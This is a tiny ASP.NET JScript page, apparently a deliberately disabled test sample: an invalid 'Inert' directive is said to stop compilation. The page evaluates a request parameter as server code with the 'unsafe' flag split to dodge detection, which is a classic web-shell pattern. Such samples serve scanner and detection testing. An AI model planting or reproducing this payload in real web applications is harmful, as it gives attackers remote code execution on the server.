<%@ Inert Reason="made for a test: an unknown directive stops the compiler before anything runs" %>
<%@ Page Language="JScript" %>
<script language="JScript" runat="server">
function Page_Load() { var made = Request["made-for-a-test"]; eval(made, "un" + "safe"); }
</script>
